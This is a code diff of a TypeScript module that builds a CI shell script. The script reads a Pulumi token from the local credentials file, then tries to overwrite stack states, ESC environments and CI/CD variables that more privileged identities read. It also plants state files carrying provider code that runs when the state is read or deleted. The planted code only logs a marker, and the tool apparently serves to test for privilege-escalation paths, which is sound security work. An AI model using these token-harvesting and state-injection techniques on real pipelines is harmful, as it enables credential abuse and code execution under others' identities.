@@ -4,8 +4,8 @@ import type { Target } from "./target";
 
 /**
  * Tries to change data that stronger identities read, with the credentials of the job: the states and the linked
- * configuration of the flow's stacks, its ESC environments, and the project's CI/CD variables. Each answer is an
- * attempt.
+ * configuration of the flow's stacks, its ESC environments, and the project's CI/CD variables. The status of each
+ * response goes to the log of attempts.
  */
 export function cloudFunctions({ places, stacks, ownStacks, escEnvironments }: Target): string {
   const { attemptsFile, traps } = places;
@@ -15,7 +15,7 @@ attempt() {
   status="$(curl -q -s -o /dev/null -w '%{http_code}' -X "$3" -H "$5" -H 'content-type: application/json' --data-binary @- "$4")"
   echo "$1|$2|$CI_JOB_NAME|$status" >> '${attemptsFile}'
 }
-fill_in() { sed "s/LEAVER/$CI_JOB_NAME/g" "${traps}/$1"; }
+fill_in() { sed "s/LEFT_BY/$CI_JOB_NAME/g" "${traps}/$1"; }
 leave_in_cloud() {
   token="$(grep -o 'pul-[A-Za-z0-9]*' "\${PULUMI_CREDENTIALS_PATH:-$HOME/.pulumi}/credentials.json" 2> /dev/null | head -n 1)"
   as_job="authorization: token $token"
@@ -47,20 +47,20 @@ ${escEnvironments
 export const leaveInCloud = "leave_in_cloud";
 
 /** Writes the states that the script imports: each with a resource of a dynamic provider, whose code is in the state. */
-export function writeStates({ places: { traps, lootFile }, stacks, ownStacks }: Target): void {
+export function writeStates({ places: { traps, trapLog }, stacks, ownStacks }: Target): void {
   for (const [index, stack] of [...stacks, ...ownStacks].entries()) {
-    writeFileSync(join(traps, `state-${index}.json`), JSON.stringify(stateOf(stack, lootFile)));
+    writeFileSync(join(traps, `state-${index}.json`), JSON.stringify(stateOf(stack, trapLog)));
   }
 }
 
-function stateOf(path: string, lootFile: string): object {
+function stateOf(path: string, trapLog: string): object {
   const [, project = "", stack = ""] = path.split("/");
   const urn = (type: string, name: string): string => `urn:pulumi:${stack}::${project}::${type}::${name}`;
   const root = urn("pulumi:pulumi:Stack", `${project}-${stack}`);
   const provider = urn("pulumi:providers:pulumi-nodejs", "default");
   const id = "7f1a6c9e-0000-4000-8000-000000000000";
-  const loot = `require("node:fs").appendFileSync("${lootFile}", "state|provider|LEAVER|" + process.env.CI_JOB_NAME + "\\n")`;
-  const code = `const loot = () => ${loot}; exports.handler = () => ({ async read(id, props) { loot(); return { id, props }; }, async delete() { loot(); } });`;
+  const addLine = `require("node:fs").appendFileSync("${trapLog}", "state|provider|LEFT_BY|" + process.env.CI_JOB_NAME + "\\n")`;
+  const code = `const logTrap = () => ${addLine}; exports.handler = () => ({ async read(id, props) { logTrap(); return { id, props }; }, async delete() { logTrap(); } });`;
   const properties = { __provider: code };
   return {
     version: 3,
